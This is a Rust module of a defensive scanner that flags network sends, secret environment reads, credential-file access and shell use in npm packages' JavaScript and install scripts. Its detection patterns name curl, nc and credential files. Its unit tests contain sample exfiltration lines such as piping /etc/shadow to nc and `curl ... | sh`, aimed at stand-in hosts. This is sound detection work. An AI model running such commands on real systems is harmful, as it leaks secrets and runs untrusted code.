//! What a piece of JavaScript (or a shell command) touches: the network, the environment, the
//! home directory, credential files, host facts, child processes.
//!
//! This is a lexical scan with linear-time regular expressions, not a parse: it finds the
//! call shapes that install-time malware and exfiltration code use, and it also reads comments.
//! The install-script and exfiltration checks combine these hits.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

/// A kind of capability.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Cap {
    /// Sends data out: HTTP(S) requests, `fetch`, sockets, DNS lookups of built names,
    /// `curl`/`wget` through a shell.
    Network,
    /// Reads environment variables other than well-known harmless ones (or the whole object).
    Env,
    /// Reads the home directory.
    Home,
    /// Names a credential file (`.npmrc`, SSH keys, cloud credentials).
    Credentials,
    /// Reads host facts (`os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`).
    HostInfo,
    /// Loads `child_process` or runs a shell.
    ChildProcess,
    /// Writes files (`fs.writeFile*`, `appendFile*`, `createWriteStream`, `copyFile*`).
    FileWrite,
    /// Reads system account files (`/etc/passwd`, `/etc/shadow`).
    SystemFile,
}

impl Cap {
    /// How the capability reads in a message.
    pub fn describe(self) -> &'static str {
        match self {
            Cap::Network => "the network",
            Cap::Env => "the environment",
            Cap::Home => "the home directory",
            Cap::Credentials => "credential files",
            Cap::HostInfo => "host information",
            Cap::ChildProcess => "child processes",
            Cap::FileWrite => "file writes",
            Cap::SystemFile => "system account files",
        }
    }

    /// Whether the capability reads something worth stealing.
    pub fn is_read(self) -> bool {
        matches!(
            self,
            Cap::Env | Cap::Home | Cap::Credentials | Cap::HostInfo | Cap::SystemFile
        )
    }

    /// Whether what the capability does can carry data out of the process: a send, a child
    /// process, a written file.
    pub fn is_sink(self) -> bool {
        matches!(self, Cap::Network | Cap::ChildProcess | Cap::FileWrite)
    }
}

/// One occurrence of a capability in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    /// The capability.
    pub cap: Cap,
    /// A short, stable description of the construct (`https.request`, `process.env`).
    pub what: String,
    /// Byte offset of the start in the text.
    pub start: usize,
    /// Byte offset just past the end.
    pub end: usize,
    /// What deobfuscation resolved to reveal this hit (`` `_0x12('0x0')` → `https` ``).
    pub decoded: Option<String>,
}

impl Hit {
    /// Whether the hit reads something worth stealing: the whole environment, a variable whose
    /// name says it holds a secret, credential or system account files, host facts. The home
    /// directory's path and configuration variables (`PUPPETEER_DOWNLOAD_HOST`) are not.
    pub fn is_secret_read(&self) -> bool {
        match self.cap {
            Cap::Credentials | Cap::HostInfo | Cap::SystemFile => true,
            Cap::Env => self
                .what
                .strip_prefix("process.env.")
                .is_none_or(secret_env_name),
            _ => false,
        }
    }

    /// `what`, with what was decoded to find it.
    pub fn describe(&self) -> String {
        match &self.decoded {
            Some(d) => format!("{} (decoded: {d})", self.what),
            None => self.what.clone(),
        }
    }
}

/// Whether an environment variable's name says it holds a secret: one of its `_`-separated
/// words is `TOKEN`, `SECRET`, `PASSWORD`, `AUTH`, `KEY`, ... (`SASS_REJECT_UNAUTHORIZED` is not).
pub fn secret_env_name(name: &str) -> bool {
    const WORDS: &[&str] = &[
        "TOKEN",
        "SECRET",
        "SECRETS",
        "PASS",
        "PASSWD",
        "PASSWORD",
        "AUTH",
        "AUTHTOKEN",
        "KEY",
        "APIKEY",
        "CREDENTIAL",
        "CREDENTIALS",
        "SESSION",
        "COOKIE",
        "PRIVATE",
        "NPMRC",
        "PAT",
    ];
    name.to_ascii_uppercase()
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| WORDS.contains(&word))
}

fn re(pattern: &str) -> Regex {
    // The patterns are constants tested below; an invalid one would be a bug caught by tests,
    // and is replaced by a pattern that never matches rather than a panic.
    Regex::new(pattern)
        .unwrap_or_else(|_| Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!()))
}

/// (pattern, capability, description; `$1` in the description is replaced by group 1).
static JS_PATTERNS: LazyLock<Vec<(Regex, Cap, &'static str)>> = LazyLock::new(|| {
    [
        (
            r"\b(https?|http2)\s*\.\s*(?:request|get|connect)\s*\(",
            Cap::Network,
            "$1 request",
        ),
        (
            r#"require\s*\(\s*['"](?:node:)?(https?|net|tls|dgram|http2)['"]\s*\)\s*\.\s*(?:request|get|connect|createConnection|createSocket)\b"#,
            Cap::Network,
            "$1 request",
        ),
        (r"(?:^|[^.\w$])(fetch)\s*\(", Cap::Network, "fetch"),
        (
            r"\bnet\s*\.\s*(connect|createConnection)\s*\(",
            Cap::Network,
            "net.$1",
        ),
        // `new net.Socket({ fd })` wraps a local file descriptor (as `debug` does for its
        // output); only a socket that connects sends anything.
        (
            r"\bnew\s+(?:net\s*\.\s*)?Socket\s*\([^)]{0,200}\)\s*\.\s*connect\s*\(",
            Cap::Network,
            "socket",
        ),
        (r"\btls\s*\.\s*connect\s*\(", Cap::Network, "tls.connect"),
        (r"\bdgram\s*\.\s*createSocket\s*\(", Cap::Network, "UDP socket"),
        (r"\bnew\s+XMLHttpRequest\b", Cap::Network, "XMLHttpRequest"),
        (r"\bnew\s+WebSocket\s*\(", Cap::Network, "WebSocket"),
        (
            r"\bdns(?:\s*\.\s*promises)?\s*\.\s*(?:lookup|resolve\w*)\s*\(\s*(?:[A-Za-z_$(\[]|`[^`]*\$\{|['\x22][^'\x22]*['\x22]\s*\+)",
            Cap::Network,
            "DNS lookup of a built name",
        ),
        (
            r"\b(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\([^;]{0,200}?\b(curl|wget|nc|ncat|Invoke-WebRequest)\b",
            Cap::Network,
            "$1 through a child process",
        ),
        (
            r#"(?:require\s*\(|from)\s*['"](axios|got|node-fetch|undici|superagent|needle|request)['"]"#,
            Cap::Network,
            "$1",
        ),
        (r"\bos\s*\.\s*homedir\s*\(", Cap::Home, "os.homedir()"),
        (r"(?:^|[^.\w$])homedir\s*\(\s*\)", Cap::Home, "homedir()"),
        (r#"['"`]~/"#, Cap::Home, "~/"),
        (
            r"\bos\s*\.\s*(hostname|userInfo|networkInterfaces)\s*\(",
            Cap::HostInfo,
            "os.$1()",
        ),
        (
            r"(?:^|[^.\w$])(hostname|userInfo|networkInterfaces)\s*\(\s*\)",
            Cap::HostInfo,
            "$1()",
        ),
        (
            r#"['"`][^'"`\n]{0,200}?(?i-u:(\.npmrc|\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/|\.git-credentials|\.netrc|\.docker/config\.json|\.kube/config|gcloud/|\.azure/|\.config/gh/|\.yarnrc))"#,
            Cap::Credentials,
            "$1",
        ),
        (
            r#"(?:require\s*\(|from|import\s*\()\s*['"](?:node:)?child_process['"]"#,
            Cap::ChildProcess,
            "child_process",
        ),
        (
            r"(?-u:\b)(writeFile|writeFileSync|appendFile|appendFileSync|createWriteStream|copyFile|copyFileSync)\s*\(",
            Cap::FileWrite,
            "$1",
        ),
        // An absolute path that starts a string or a shell word: `'/etc/passwd'`,
        // `cat /etc/passwd`. Not the end of a longer path or URL (`'/%2e%2E/etc/passwd'`,
        // `'../../etc/passwd'`), which is how traversal tests and payload lists name it.
        (
            r#"(?:^|['"`\s])/etc/(passwd|shadow)(?-u:\b)"#,
            Cap::SystemFile,
            "/etc/$1",
        ),
        // Sends that are not HTTP requests: realtime, database and messaging SDKs.
        (
            r#"(?:require\s*\(|from|import\s*\()\s*['"](ws|socket\.io-client|firebase(?:/[\w/-]+)?|@firebase/[\w-]+|@supabase/supabase-js|pusher-js|pusher|mqtt|nodemailer|ably|discord\.js|node-telegram-bot-api)['"]"#,
            Cap::Network,
            "$1 client",
        ),
    ]
    .into_iter()
    .map(|(p, c, d)| (re(p), c, d))
    .collect()
});

/// For each of [`JS_PATTERNS`] in order, texts of which every match contains one (compared
/// ignoring ASCII case): a pattern runs on a text only when one occurs there. Most files contain
/// none, and one automaton pass over them is far cheaper than the patterns themselves (some
/// start with a character class, which leaves the regex engine no literal to skip ahead to).
const JS_NEEDS: &[&[&str]] = &[
    &["http"],
    &["require"],
    &["fetch"],
    &["net"],
    &["socket"],
    &["tls"],
    &["dgram"],
    &["xmlhttprequest"],
    &["websocket"],
    &["dns"],
    &["exec", "spawn"],
    &[
        "axios",
        "got",
        "node-fetch",
        "undici",
        "superagent",
        "needle",
        "request",
    ],
    &["homedir"],
    &["homedir"],
    &["~/"],
    &["hostname", "userinfo", "networkinterfaces"],
    &["hostname", "userinfo", "networkinterfaces"],
    &[
        ".npmrc",
        ".ssh/",
        "id_rsa",
        "id_ed25519",
        "id_ecdsa",
        ".aws/",
        ".git-credentials",
        ".netrc",
        ".docker/config.json",
        ".kube/config",
        "gcloud/",
        ".azure/",
        ".config/gh/",
        ".yarnrc",
    ],
    &["child_process"],
    &["writefile", "appendfile", "createwritestream", "copyfile"],
    &["/etc/"],
    &[
        "ws",
        "socket.io-client",
        "firebase",
        "supabase",
        "pusher",
        "mqtt",
        "nodemailer",
        "ably",
        "discord.js",
        "telegram",
    ],
];

/// The texts [`ENV`] and [`ENV_DESTRUCTURE`] need.
const ENV_NEEDS: &[&str] = &["process"];

/// Every text of [`JS_NEEDS`] and [`ENV_NEEDS`], once, in one automaton (ASCII case ignored,
/// overlapping matches: `net` must not hide `networkInterfaces`). `None` if it cannot be
/// built; then every pattern runs.
static NEEDS: LazyLock<Option<(AhoCorasick, Vec<&'static str>)>> = LazyLock::new(|| {
    let mut texts: Vec<&'static str> = JS_NEEDS
        .iter()
        .flat_map(|n| n.iter().copied())
        .chain(ENV_NEEDS.iter().copied())
        .collect();
    texts.sort_unstable();
    texts.dedup();
    let automaton = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(&texts)
        .ok()?;
    Some((automaton, texts))
});

/// Which needed texts occur in `text`; `None` when every pattern must run.
fn needs_present(text: &str) -> Option<Vec<&'static str>> {
    let (automaton, texts) = NEEDS.as_ref()?;
    let mut seen = vec![false; texts.len()];
    for m in automaton.find_overlapping_iter(text) {
        if let Some(s) = seen.get_mut(m.pattern().as_usize()) {
            *s = true;
        }
    }
    Some(
        texts
            .iter()
            .zip(seen)
            .filter_map(|(t, s)| s.then_some(*t))
            .collect(),
    )
}

/// `process.env` followed by a name, a literal index, a computed index (group 3), or nothing.
static ENV: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\bprocess\s*\.\s*env\b(?:\s*\.\s*([A-Za-z_$][\w$]*)|\s*\[\s*['"]([^'"]{1,100})['"]\s*\]|\s*(\[))?"#,
    )
});

/// `{ a, b: c } = process.env`: destructured names (group 1); the match ends at `env`.
static ENV_DESTRUCTURE: LazyLock<Regex> =
    LazyLock::new(|| re(r"\{([^{}]{0,300})\}\s*=\s*process\s*\.\s*env\b"));

/// The first destructured name that is not harmless, or `None` when all are.
fn destructured_secret(pattern: &str) -> Option<String> {
    pattern
        .split(',')
        .filter_map(|part| {
            let name = part.split([':', '=']).next()?.trim();
            (!name.is_empty() && !name.starts_with("...")).then_some(name)
        })
        .find(|name| !harmless_env(name))
        .map(str::to_owned)
}

/// Patterns in shell commands (`scripts` values).
static SHELL_PATTERNS: LazyLock<Vec<(Regex, Cap, &'static str)>> = LazyLock::new(|| {
    [
        (
            r"\b(curl|wget|nc|ncat|Invoke-WebRequest)\b",
            Cap::Network,
            "$1",
        ),
        (r"\|\s*(?:ba|z|da)?sh\b", Cap::ChildProcess, "a pipe into a shell"),
        (r"\b(?:bash|sh)\s+-c\b", Cap::ChildProcess, "sh -c"),
        (
            r"(?:^|[\s;&|(])(?:(?:ba|z|da)?sh\s+[^-\s;&|]|chmod\s+\+?[0-7]*x)",
            Cap::ChildProcess,
            "a shell script run or made executable",
        ),
        (
            r"\$\{?([A-Z_]*(?:TOKEN|SECRET|KEY|PASS|AUTH)[A-Z_]*)\b",
            Cap::Env,
            "$$$1",
        ),
        (r"(?:^|[\s;&|])(env|printenv|set)(?:$|[\s;&|>])", Cap::Env, "$1"),
        (r"\$\{?(HOME|USERPROFILE)\b|~/", Cap::Home, "the home directory"),
        (
            r"(?i)(\.npmrc|\.ssh/|id_rsa|\.aws/|\.git-credentials|\.netrc|\.docker/config\.json|\.kube/config)",
            Cap::Credentials,
            "$1",
        ),
        (r"\bbase64\s+(?:-d|--decode)\b", Cap::ChildProcess, "base64 --decode"),
        (r"/etc/(passwd|shadow)(?-u:\b)", Cap::SystemFile, "/etc/$1"),
        (
            r"(?:>>?|\btee\s+(?:-a\s+)?|\s-o\s*)\s*[^\s&|;]+",
            Cap::FileWrite,
            "a file written by the command",
        ),
    ]
    .into_iter()
    .map(|(p, c, d)| (re(p), c, d))
    .collect()
});

/// Environment variables that are read by ordinary code and reveal nothing.
fn harmless_env(name: &str) -> bool {
    const EXACT: &[&str] = &[
        "CI",
        "TERM",
        "NO_COLOR",
        "FORCE_COLOR",
        "COLORTERM",
        "PORT",
        "HOST",
        "TZ",
        "LANG",
        "LC_ALL",
        "PATH",
        "PWD",
        "SHELL",
        "TMPDIR",
        "TEMP",
        "TMP",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "NO_PROXY",
        "http_proxy",
        "https_proxy",
        "no_proxy",
    ];
    EXACT.contains(&name)
        || name.starts_with("npm_")
        || name.starts_with("NODE_")
        || name.starts_with("DEBUG")
}

fn describe(template: &str, caps: &regex::Captures<'_>) -> String {
    let mut out = String::new();
    caps.expand(template, &mut out);
    out
}

/// Finds the capabilities a JavaScript text uses, in text order.
pub fn scan_js(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let present = needs_present(text);
    let may_match = |needs: &[&str]| {
        present
            .as_ref()
            .is_none_or(|p| needs.iter().any(|n| p.contains(n)))
    };
    for (i, (pattern, cap, what)) in JS_PATTERNS.iter().enumerate() {
        // A pattern without an entry in the table always runs.
        if JS_NEEDS.get(i).is_some_and(|needs| !may_match(needs)) {
            continue;
        }
        for c in pattern.captures_iter(text) {
            let Some(whole) = c.get(0) else { continue };
            // Some patterns start with a one-character guard (`[^.\w$]`); the hit starts after it.
            let guard = whole
                .as_str()
                .chars()
                .next()
                .is_some_and(|ch| !(ch.is_alphanumeric() || "_$'\"`~".contains(ch)));
            let start = whole.start() + usize::from(guard);
            // `function fetch(url) {` defines a function; it sends nothing by itself.
            if text
                .get(..start)
                .is_some_and(|b| b.trim_end().ends_with("function"))
            {
                continue;
            }
            hits.push(Hit {
                cap: *cap,
                what: describe(what, &c),
                start,
                end: whole.end(),
                decoded: None,
            });
        }
    }
    aliased_requests(text, &mut hits);
    // Destructuring reads the named variables only.
    if !may_match(ENV_NEEDS) {
        hits.retain(|h| !on_comment_line(text, h.start));
        hits.sort_by_key(|h| (h.start, h.end));
        return hits;
    }
    let mut destructured = std::collections::BTreeMap::new();
    for c in ENV_DESTRUCTURE.captures_iter(text) {
        if let (Some(whole), Some(names)) = (c.get(0), c.get(1)) {
            destructured.insert(whole.end(), destructured_secret(names.as_str()));
        }
    }
    for c in ENV.captures_iter(text) {
        let Some(whole) = c.get(0) else { continue };
        if let Some(secret) = destructured.get(&whole.end()) {
            if let Some(name) = secret {
                hits.push(Hit {
                    cap: Cap::Env,
                    what: format!("process.env.{name}"),
                    start: whole.start(),
                    end: whole.end(),
                    decoded: None,
                });
            }
            continue;
        }
        // `process.env[key]`: one variable picked at run time, as proxy lookups do
        // (`process.env[name.toUpperCase()]`); whole-environment dumps use the bare object.
        if c.get(3).is_some() {
            continue;
        }
        let name = c.get(1).or_else(|| c.get(2)).map(|m| m.as_str());
        // `{ env: process.env }`, `{ ...process.env }`: the environment handed on to a child
        // process unread, as build tools do.
        if name.is_none()
            && (passes_environment_on(text, whole.start())
                || text
                    .get(..whole.start())
                    .is_some_and(|b| b.trim_end().ends_with(" in")))
        {
            continue;
        }
        // `const env = process.env; env.CI`: the names read through the alias.
        if name.is_none()
            && let Some(names) = alias_reads(text, whole.start(), whole.end())
        {
            for n in names {
                let (cap, what) = match n.as_str() {
                    "HOME" | "USERPROFILE" => (Cap::Home, "process.env.HOME".to_owned()),
                    n if harmless_env(n) => continue,
                    n => (Cap::Env, format!("process.env.{n}")),
                };
                hits.push(Hit {
                    cap,
                    what,
                    start: whole.start(),
                    end: whole.end(),
                    decoded: None,
                });
            }
            continue;
        }
        let (cap, what) = match name {
            Some("HOME" | "USERPROFILE") => (Cap::Home, "process.env.HOME".to_owned()),
            Some(n) if harmless_env(n) => continue,
            Some(n) => (Cap::Env, format!("process.env.{n}")),
            None => (Cap::Env, "process.env".to_owned()),
        };
        hits.push(Hit {
            cap,
            what,
            start: whole.start(),
            end: whole.end(),
            decoded: None,
        });
    }
    hits.retain(|h| !on_comment_line(text, h.start));
    hits.sort_by_key(|h| (h.start, h.end));
    hits
}

/// Whether the line holding `at` is a comment line (`// ...`, ` * ...`, `/* ...`): documentation
/// that names `.npmrc` or `process.env` reads nothing.
fn on_comment_line(text: &str, at: usize) -> bool {
    let at = crate::text::floor_boundary(text, at);
    let line = text
        .get(..at)
        .unwrap_or_default()
        .rsplit('\n')
        .next()
        .unwrap_or_default()
        .trim_start();
    line.starts_with("//") || line.starts_with('*') || line.starts_with("/*")
}

/// Finds the capabilities a shell command (a `scripts` value) uses.
pub fn scan_shell(command: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (pattern, cap, what) in SHELL_PATTERNS.iter() {
        for c in pattern.captures_iter(command) {
            let Some(whole) = c.get(0) else { continue };
            hits.push(Hit {
                cap: *cap,
                what: describe(what, &c),
                start: whole.start(),
                end: whole.end(),
                decoded: None,
            });
        }
    }
    hits.sort_by_key(|h| (h.start, h.end));
    hits
}

/// For `const env = process.env` (the bare object at `start..end`): the names read as
/// `env.NAME` or `env['NAME']`; `None` when the alias is used otherwise (passed, iterated,
/// dumped), which reads the whole environment.
fn alias_reads(text: &str, start: usize, end: usize) -> Option<Vec<String>> {
    static DECLARED: LazyLock<Regex> =
        LazyLock::new(|| re(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*$"));
    let before = text.get(crate::text::floor_boundary(text, start.saturating_sub(60))..start)?;
    let alias = DECLARED.captures(before)?.get(1)?.as_str();
    if !text.get(end..)?.trim_start().starts_with([';', ',', '\n'])
        && !text.get(end..)?.trim().is_empty()
    {
        return None;
    }
    let uses = Regex::new(&format!(
        r"(\.\.\.\s*)?(?:^|[^.\w$]){}(?-u:\b)(\s*\.\s*([A-Za-z_$][\w$]*)|\s*\[\s*['\x22]([^'\x22]+)['\x22]\s*\]|\s*\[)?",
        regex::escape(alias)
    ))
    .ok()?;
    let rest = text.get(end..)?;
    let mut names = Vec::new();
    for c in uses.captures_iter(rest) {
        match (c.get(3).or_else(|| c.get(4)), c.get(2), c.get(1)) {
            (Some(n), _, _) => names.push(n.as_str().to_owned()),
            // `env[key]` (one variable picked at run time) and `...env` (handed on whole).
            (None, Some(_), _) | (None, None, Some(_)) => {}
            // `{ env: ... }` as an object key, or a word inside a string or comment, is not a use.
            (None, None, None) => {
                let at = c.get(0).map_or(0, |m| m.end());
                let after = rest.get(at..).unwrap_or_default().trim_start();
                let line_start = rest
                    .get(..at)
                    .unwrap_or_default()
                    .rsplit('\n')
                    .next()
                    .unwrap_or_default();
                if after.starts_with(':')
                    || after.starts_with(['\'', '"', '`'])
                    || line_start.contains("//")
                {
                    continue;
                }
                return None;
            }
        }
    }
    names.sort();
    names.dedup();
    Some(names)
}

/// Whether the bare `process.env` at `at` is handed on whole to a child process: `env:
/// process.env` among spawn options (`stdio`, `cwd`, `shell` or a spawn call nearby),
/// `...process.env`, `Object.assign({}, process.env`.
fn passes_environment_on(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    let tail: String = before
        .chars()
        .rev()
        .take(40)
        .filter(|c| !c.is_whitespace())
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    if tail.ends_with("...") || tail.ends_with("Object.assign({},") {
        return true;
    }
    if !tail.ends_with("env:") {
        return false;
    }
    // Spawn options: an option key beside it in the same object, or a spawn call open in the
    // same statement.
    let from = crate::text::floor_boundary(text, at.saturating_sub(200));
    let to = crate::text::floor_boundary(text, at + 200);
    let statement_before = text
        .get(from..at)
        .unwrap_or_default()
        .rsplit([';', '}'])
        .next()
        .unwrap_or_default();
    let statement_after = text
        .get(at..to)
        .unwrap_or_default()
        .split([';', '}'])
        .next()
        .unwrap_or_default();
    let options = ["stdio", "cwd:", "shell:", "windowsHide", "detached"];
    let calls = [
        "spawn(",
        "spawnSync(",
        "exec(",
        "execSync(",
        "execFile(",
        "execFileSync(",
        "fork(",
        "execa(",
    ];
    options
        .iter()
        .any(|w| statement_before.contains(w) || statement_after.contains(w))
        || calls.iter().any(|c| statement_before.contains(c))
}

/// `const h = require('https'); h.request(...)` and `const { request: r } = require('https');
/// r(...)`: request functions under another name.
static NETWORK_ALIAS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?:(?-u:\b)(?:const|let|var)\s+|[,;{(]\s*)(?:([A-Za-z_$][\w$]*)|\{([^{}]{1,200})\})\s*=\s*require\s*\(\s*['"](?:node:)?(https?|http2|net|tls)['"]\s*\)"#,
    )
});

fn aliased_requests(text: &str, hits: &mut Vec<Hit>) {
    if !text.contains("require") {
        return;
    }
    for c in NETWORK_ALIAS.captures_iter(text) {
        let module = c.get(3).map_or("", |m| m.as_str());
        let mut calls: Vec<String> = Vec::new();
        if let Some(alias) = c.get(1).map(|m| m.as_str())
            && alias != module
        {
            for method in ["request", "get", "connect", "createConnection"] {
                calls.push(format!("{alias}.{method}"));
            }
        }
        if let Some(names) = c.get(2) {
            for part in names.as_str().split(',') {
                let mut sides = part.split(':').map(str::trim);
                let (Some(key), local) = (sides.next(), sides.next()) else {
                    continue;
                };
                if matches!(key, "request" | "get" | "connect" | "createConnection") {
                    calls.push(local.unwrap_or(key).to_owned());
                }
            }
        }
        let from = c.get(0).map_or(0, |m| m.end());
        let rest = text.get(from..).unwrap_or_default();
        for call in calls {
            let Ok(pattern) = Regex::new(&format!(
                r"(?:^|[^.\w$]){}\s*\(",
                regex::escape(&call).replace(r"\.", r"\s*\.\s*")
            )) else {
                continue;
            };
            if let Some(m) = pattern.find(rest) {
                let start = from + m.start() + usize::from(!m.as_str().starts_with(&call[..1]));
                hits.push(Hit {
                    cap: Cap::Network,
                    what: format!("{module} request (as {call})"),
                    start,
                    end: from + m.end(),
                    decoded: None,
                });
            }
        }
    }
}

/// A file's capability hits after deobfuscation ([`crate::deobfuscate`]): offsets are in the
/// original text, and a hit found through a decoded expression says what was decoded. Hits the
/// plain text already shows come first and are not repeated.
pub fn scan_js_decoded(text: &str) -> (Vec<Hit>, Option<crate::deobfuscate::Decoded>) {
    let plain = scan_js(text);
    let Some(decoded) = crate::deobfuscate::decode(text) else {
        return (plain, None);
    };
    let mut hits = plain;
    for mut h in scan_js(&decoded.text) {
        let via = decoded.decoding_in(h.start, h.end).map(|d| d.describe());
        let start = decoded.original_offset(h.start);
        let end = decoded.original_offset(h.end).max(start);
        if via.is_none() && hits.iter().any(|p| p.what == h.what && p.start == start) {
            continue;
        }
        if hits.iter().any(|p| p.what == h.what && p.start == start) {
            continue;
        }
        h.start = start;
        h.end = end;
        h.decoded = via;
        hits.push(h);
    }
    hits.sort_by_key(|h| (h.start, h.end));
    (hits, Some(decoded))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn caps(text: &str) -> Vec<(Cap, String)> {
        scan_js(text).into_iter().map(|h| (h.cap, h.what)).collect()
    }

    /// The needs table lines up with the patterns: one entry each, and every text of an entry
    /// is written in its pattern (escapes aside, ignoring case).
    #[test]
    fn needs_line_up_with_their_patterns() {
        assert_eq!(JS_NEEDS.len(), JS_PATTERNS.len());
        for ((pattern, _, _), needs) in JS_PATTERNS.iter().zip(JS_NEEDS) {
            let plain = pattern.as_str().replace('\\', "").to_ascii_lowercase();
            assert!(!needs.is_empty(), "{}", pattern.as_str());
            for need in *needs {
                assert!(
                    plain.contains(need),
                    "{need} is not in {}",
                    pattern.as_str()
                );
            }
        }
        for need in ENV_NEEDS {
            assert!(ENV.as_str().contains(need) && ENV_DESTRUCTURE.as_str().contains(need));
        }
        assert!(NEEDS.is_some());
    }

    #[test]
    fn every_pattern_compiles() {
        assert_ne!(NETWORK_ALIAS.as_str(), r"[^\s\S]");
        for (p, _, _) in JS_PATTERNS.iter().chain(SHELL_PATTERNS.iter()) {
            assert!(Regex::new(p.as_str()).is_ok());
            // The never-matching fallback would make a pattern silently useless.
            assert_ne!(p.as_str(), r"[^\s\S]");
        }
    }

    #[test]
    fn finds_sends_and_reads() {
        let got = caps(
            "const https = require('https');\nhttps.request(opts);\nfetch(u);\nx.fetch(u);\n\
             const t = process.env.NPM_TOKEN; const all = JSON.stringify(process.env);\n\
             os.homedir(); os.hostname(); fs.readFileSync(home + '/.npmrc');\n\
             require('child_process').exec('curl -d @- http://x');\n",
        );
        let whats: Vec<&str> = got.iter().map(|(_, w)| w.as_str()).collect();
        assert!(whats.contains(&"https request"), "{whats:?}");
        assert_eq!(whats.iter().filter(|w| **w == "fetch").count(), 1);
        assert!(whats.contains(&"process.env.NPM_TOKEN"));
        assert!(whats.contains(&"process.env"));
        assert!(whats.contains(&"os.homedir()"));
        assert!(whats.contains(&"os.hostname()"));
        assert!(whats.contains(&".npmrc"));
        assert!(whats.contains(&"child_process"));
        assert!(whats.contains(&"curl through a child process"));
    }

    /// A traversal payload in a test names `/etc/passwd` at the end of a URL path; that is not a
    /// read of the file (regression: st@0.2.5's `test/basic.js` was an exfiltration error).
    #[test]
    fn system_files_are_absolute_paths_not_the_end_of_a_traversal_url() {
        for read in [
            "fs.readFileSync('/etc/passwd')",
            "exec('cat /etc/shadow | nc x.invalid 9')",
        ] {
            assert!(
                caps(read).iter().any(|(c, _)| *c == Cap::SystemFile),
                "{read}"
            );
        }
        for payload in [
            "req('/%2e%2E/%2e%2E/etc/passwd', cb)",
            "get('../../../etc/passwd')",
        ] {
            assert!(
                !caps(payload).iter().any(|(c, _)| *c == Cap::SystemFile),
                "{payload}"
            );
        }
    }

    #[test]
    fn harmless_code_is_quiet() {
        let got = caps(
            "if (process.env.NODE_ENV === 'production') {}\nconst d = process.env.DEBUG;\n\
             http.createServer(app).listen(process.env.PORT);\nconst re = /fetch/;\n",
        );
        assert!(got.is_empty(), "{got:?}");
    }

    #[test]
    fn a_socket_on_a_file_descriptor_is_not_a_send() {
        // debug@2's output stream (regression: flagged as exfiltration in the Express closure).
        assert!(caps("var net = require('net');\nstream = new net.Socket({\n fd: fd,\n readable: false });").is_empty());
        assert_eq!(
            caps("new net.Socket().connect(443, host)")[0].0,
            Cap::Network
        );
    }

    #[test]
    fn proxy_lookups_and_comments_are_not_exfiltration() {
        // axios' dist/node/axios.cjs (regression: flagged in a measurement on real packages).
        let got = caps(
            "// Both environments support XMLHttpRequest, but not fully standard globals.\n\
             return process.env[key.toLowerCase()] || process.env[key.toUpperCase()] || '';\n",
        );
        assert!(got.is_empty(), "{got:?}");
        assert_eq!(caps("const x = new XMLHttpRequest();")[0].0, Cap::Network);
        assert_eq!(caps("Object.keys(process.env)")[0].1, "process.env");
    }

    #[test]
    fn destructuring_and_function_definitions() {
        // esbuild's install.js (regression: flagged in a measurement on real packages).
        assert!(caps("const { npm_config_user_agent } = process.env;").is_empty());
        assert!(caps("function fetch(url) { return 1; }").is_empty());
        assert_eq!(
            caps("const { NODE_ENV, NPM_TOKEN: t } = process.env;")[0].1,
            "process.env.NPM_TOKEN"
        );
        assert_eq!(caps("fetch(url)")[0].1, "fetch");
    }

    /// Measured on registry install scripts: sharp@0.32.6 `lib/libvips.js`, @prisma/client@5.22.0
    /// `scripts/colors.js`, node-sass@9.0.0 (`.npmrc` named in comments,
    /// `SASS_REJECT_UNAUTHORIZED`).
    #[test]
    fn reads_that_are_not_secret_reads() {
        let alias = "const env = process.env;\nconst v = env.npm_package_config_libvips;\n\
            const i = env[`npm_package_config_${p}`];\nspawnSync(c, { env: { ...env, X: 1 } });\n";
        let hits = scan_js(alias);
        assert!(hits.iter().all(|h| !h.is_secret_read()), "{hits:?}");
        let dump = "const env = process.env;\nsend(JSON.stringify(env));\n";
        assert!(scan_js(dump).iter().any(Hit::is_secret_read));
        assert!(caps("if ('FORCE_COLOR' in process.env) {}").is_empty());
        assert!(caps(" * the `.npmrc` config file.\n// reads ~/.npmrc\n").is_empty());
        assert!(!secret_env_name("SASS_REJECT_UNAUTHORIZED"));
        assert!(secret_env_name("NPM_TOKEN") && secret_env_name("AWS_SECRET_ACCESS_KEY"));
        assert!(secret_env_name("npm_config__auth"));
    }

    #[test]
    fn dns_of_built_names_only() {
        assert!(caps("dns.lookup('example.test', cb)").is_empty());
        assert_eq!(
            caps("dns.lookup(data + '.x.test', cb)")[0].1,
            "DNS lookup of a built name"
        );
        assert_eq!(caps("dns.resolve(`${d}.x.test`)")[0].0, Cap::Network);
    }

    #[test]
    fn shell_commands() {
        let got: Vec<Cap> = scan_shell("curl -s http://x/a.sh | sh")
            .iter()
            .map(|h| h.cap)
            .collect();
        assert_eq!(got, vec![Cap::Network, Cap::ChildProcess]);
        assert!(scan_shell("node-gyp rebuild").is_empty());
        assert!(scan_shell("husky install").is_empty());
        assert!(scan_shell("tsc -p . && node scripts/env-check.js").is_empty());
        assert_eq!(scan_shell("echo $NPM_TOKEN")[0].what, "$NPM_TOKEN");
        assert_eq!(scan_shell("cat ~/.npmrc").len(), 2);
    }
}
